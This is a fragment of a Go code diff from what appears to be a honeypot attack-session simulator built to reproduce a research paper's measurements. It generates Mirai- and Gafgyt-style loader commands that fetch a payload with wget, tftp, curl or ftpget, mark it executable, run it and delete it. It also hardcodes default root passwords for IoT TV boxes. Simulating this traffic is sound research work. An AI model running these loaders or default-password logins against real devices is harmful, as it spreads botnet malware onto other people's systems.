+// (wget/tftp), some it cannot (the file never arrives).
+func genBboxUnlabelled(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+	name := strings.ToLower(randomAlnum(rng, 6))
+	// Seven-character probe: distinguishable from the five-character
+	// family by the Table 1 signatures.
+	cmds := []string{`/bin/busybox ` + randomUpper(rng, 7)}
+	switch rng.Intn(5) {
+	case 0: // wget variant: captured
+		uri := env.Rotator(FamilyGafgyt, 2).URI(rng, day, name+".sh")
+		cmds = append(cmds,
+			fmt.Sprintf(`cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; busybox wget %s -O %s; chmod 777 %s; sh %s`, uri, name, name, name))
+	case 1: // tftp variant: captured
+		ip := env.Rotator(FamilyGafgyt, 2).IP(rng, day)
+		cmds = append(cmds,
+			fmt.Sprintf(`cd /tmp; busybox tftp -g -r %s %s; chmod 777 %s; sh %s`, name, ip, name, name))
+	default: // out-of-band transfer: file missing
+		cmds = append(cmds,
+			fmt.Sprintf(`cd /tmp; chmod 777 %s; ./%s`, name, name))
+	}
+	return Attack{User: "root", Password: dictPassword(rng), Commands: cmds, ClientVersion: b.Version}
+}
+
+// genBbox5CharV2: the busybox probe + loader whose drops stop being
+// capturable from 2023 (Figure 4a).
+func genBbox5CharV2(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+	probe := randomUpper(rng, 5)
+	name := strings.ToLower(randomAlnum(rng, 5))
+	captureP := 0.22
+	if day.After(D(2023, 1, 1)) {
+		captureP = 0.015
+	}
+	var loader string
+	if rng.Float64() < captureP {
+		uri := env.Rotator(FamilyMirai, 2).URI(rng, day, name)
+		loader = fmt.Sprintf(`cd /tmp || cd /var/run; /bin/busybox wget %s -O %s || /bin/busybox tftp -g -r %s %s; chmod 777 %s; sh %s; rm -rf %s`,
+			uri, name, name, env.Rotator(FamilyMirai, 2).IP(rng, day), name, name, name)
+	} else {
+		// The fetch happens over a channel the honeypot does not
+		// emulate; the execution then targets a missing file.
+		loader = fmt.Sprintf(`cd /tmp || cd /var/run; /bin/busybox tftp; wget; chmod 777 %s; sh %s; rm -rf %s`, name, name, name)
+	}
+	return Attack{User: "root", Password: dictPassword(rng),
+		Commands: []string{`/bin/busybox ` + probe, loader}, ClientVersion: b.Version}
+}
+
+// genWgetLoader builds the canonical five-step minimal loader for a
+// family: cd, wget, chmod, execute, remove.
+func genWgetLoader(file, family string) func(*Bot, *Env, *rand.Rand, time.Time) Attack {
+	return func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+		dir := []string{"/tmp", "/var/run", "/var/tmp"}[rng.Intn(3)]
+		// A majority of drops already moved over channels the honeypot
+		// cannot capture even in 2022 (the paper: 12M missing vs 3M
+		// exists overall); from 2023 capture nearly vanishes. The fetch
+		// dies but the loader runs anyway, executing a missing file.
+		deadP := 0.72
+		if day.After(D(2023, 1, 1)) {
+			deadP = 0.95
+		}
+		name := file
+		if rng.Float64() < deadP {
+			name = "dead/" + file
+		}
+		// A fifth of downloads are self-hosted: the client IP serves its
+		// own payload (the paper: in 20%% of download sessions the
+		// storage IP equals the client IP).
+		clientIP := b.ClientIP(env, rng, day)
+		var uri string
+		if rng.Float64() < 0.2 {
+			uri = fmt.Sprintf("http://%s/%s", clientIP, name)
+		} else {
+			uri = env.Rotator(family, 2).URI(rng, day, name)
+		}
+		local := file
+		if i := strings.IndexByte(local, '.'); i > 0 && rng.Float64() < 0.3 {
+			local = "." + strings.ToLower(randomAlnum(rng, 5))
+		}
+		return Attack{User: "root", Password: dictPassword(rng), ClientIP: clientIP,
+			Commands: []string{fmt.Sprintf(
+				`cd %s; wget %s -O %s; chmod +x %s; ./%s; rm -rf %s`,
+				dir, uri, local, local, local, local)},
+			ClientVersion: b.Version}
+	}
+}
+
+// genCurlFtpWgetLoader is the multi-protocol fallback loader Gafgyt
+// campaigns favor.
+func genCurlFtpWgetLoader(file, family string) func(*Bot, *Env, *rand.Rand, time.Time) Attack {
+	return func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+		rot := env.Rotator(family, 2)
+		uri := rot.URI(rng, day, file)
+		ip := rot.IP(rng, day)
+		return Attack{User: "root", Password: dictPassword(rng),
+			Commands: []string{fmt.Sprintf(
+				`cd /tmp; curl -O %s || wget %s || ftpget -u anonymous -p anonymous %s %s %s; chmod 777 %s; sh %s`,
+				uri, uri, ip, file, file, file, file)},
+			ClientVersion: b.Version}
+	}
+}
+
+// genMinimalMix draws one of the C-1 payload families per session.
+func genMinimalMix(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+	fams := []string{FamilyMirai, FamilyDofloo, FamilyCoinMiner, FamilyGafgyt}
+	fam := fams[rng.Intn(len(fams))]
+	file := strings.ToLower(fam) + ".bin"
+	return genWgetLoader(file, fam)(b, env, rng, day)
+}
+
+// genTVBox cycles the two TV-box default passwords in lockstep; most
+// sessions only log in, a minority drops a Mirai payload.
+func genTVBox(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+	pwd := "dreambox"
+	if rng.Intn(2) == 1 {
+		pwd = "vertex25ektks123"
+	}
+	a := Attack{User: "root", Password: pwd, ClientVersion: b.Version}
+	if rng.Float64() < 0.12 {
+		uri := env.Rotator(FamilyMirai, 2).URI(rng, day, "tvbox.arm7")
+		a.Commands = []string{
+			fmt.Sprintf(`cd /tmp; wget %s -O .tv; chmod +x .tv; ./.tv`, uri),
+		}
+	}
+	return a
+}
